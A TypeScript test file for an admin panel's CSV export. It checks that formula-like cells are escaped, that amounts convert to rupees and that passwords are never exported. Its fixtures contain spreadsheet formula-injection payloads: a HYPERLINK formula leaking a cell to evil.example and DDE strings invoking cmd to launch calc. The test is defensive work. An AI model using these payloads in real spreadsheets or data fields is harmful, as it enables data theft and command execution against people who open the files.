import { screen, waitFor } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { ADMIN_RESOURCES } from '@server/admin/resources';
import { supportTicketsAdmin } from '@server/modules/support-tickets/admin';
import { businessApplicationsAdmin } from '@server/modules/business-applications/admin';
import { settlementsAdmin } from '@server/modules/settlements/admin';
import { businessOwnersAdmin } from '@server/modules/business-owners/admin';
import { renderAdmin } from '@admin/testing/render';
import { csvOfRecords, exportColumns } from './export';
import { makeList } from './views';

const ticket = {
  id: 41,
  status: 'open',
  subject: '=HYPERLINK("https://evil.example/?leak="&A1,"Refund status")',
  message: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  name: 'Asha Rao',
  email: 'asha@example.in',
  phoneNumber: '9876543210',
  businessOwnerId: null,
  createdAt: '2026-11-21T08:00:00.000Z',
  updatedAt: '2026-11-21T08:00:00.000Z',
};

/** The text of the file the Export button hands to the browser (react-admin's downloadCSV makes a Blob URL). */
async function exportedCsv(click: () => Promise<void>): Promise<string> {
  const blobs: Blob[] = [];
  const createObjectURL = vi.fn((blob: Blob) => {
    blobs.push(blob);
    return 'blob:export';
  });
  Object.assign(URL, { createObjectURL, revokeObjectURL: vi.fn() });
  const anchorClick = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  await click();
  await waitFor(() => expect(blobs).toHaveLength(1));
  anchorClick.mockRestore();
  const text = await new Promise<string>((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve(String(reader.result));
    reader.readAsText(blobs[0]!);
  });
  return text.replace(/^\uFEFF/, '');
}

describe('Export: every list writes through the one CSV writer', () => {
  it('a support ticket whose subject is a formula exports as text, not a live formula', async () => {
    const TicketList = makeList(supportTicketsAdmin);
    const getList = vi.fn().mockResolvedValue({ data: [ticket], total: 1 });
    const getMany = vi.fn().mockResolvedValue({ data: [] });
    const { user } = renderAdmin(<TicketList />, { resource: 'support-tickets', dataProvider: { getList, getMany } });
    expect(await screen.findByText(ticket.subject)).toBeInTheDocument();
    const csv = await exportedCsv(() => user.click(screen.getByRole('button', { name: 'Export' })));
    const [header, row] = csv.split('\r\n');
    expect(header).toBe('ID,Status,Subject,Message,Name,Email,Phone number,Business owner,Received,Updated');
    expect(row).toBe(
      `41,Open,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Refund status"")",'@SUM(1+1)*cmd|' /C calc'!A0,Asha Rao,asha@example.in,9876543210,,2026-11-21T08:00:00.000Z,2026-11-21T08:00:00.000Z`,
    );
  });

  it('a public business application named like a command is neutralised in every text column', () => {
    const csv = csvOfRecords(businessApplicationsAdmin, [
      { id: 3, status: 'pending', businessName: "=cmd|' /C calc'!A0", address: '+1-2', contactName: '-Ravi', cityId: 2, categoryId: 1 },
    ]);
    const row = csv.split('\r\n')[1]!;
    expect(row.startsWith(`3,Pending,'=cmd|' /C calc'!A0,'+1-2,'-Ravi,`)).toBe(true);
    // References stay ids (numbers).
    expect(row).toContain(',2,1,');
  });

  it('money is rupees, and a negative amount is still a number', () => {
    const csv = csvOfRecords(settlementsAdmin, [{ id: 9, outletId: 4, grossPaise: 300_000, refundPaise: -1250, payoutPaise: 265_500, utr: '=1+1' }]);
    const [header, row] = csv.split('\r\n');
    const cells = Object.fromEntries(header!.split(',').map((h, i) => [h, row!.split(',')[i]]));
    expect(cells).toMatchObject({ 'Gross (INR)': '3000.00', 'Refunds (outlet share) (INR)': '-12.50', 'Payout (INR)': '2655.00', UTRs: "'=1+1" });
  });

  it('never exports a password, and every resource has its columns from its declaration', () => {
    expect(exportColumns(businessOwnersAdmin).map((c) => c.source)).not.toContain('password');
    for (const d of ADMIN_RESOURCES) {
      const sources = exportColumns(d).map((c) => c.source);
      expect(sources.length, d.name).toBeGreaterThan(0);
      for (const source of sources) expect(d.fields[source]?.writeOnly, `${d.name}.${source}`).not.toBe(true);
    }
  });
});
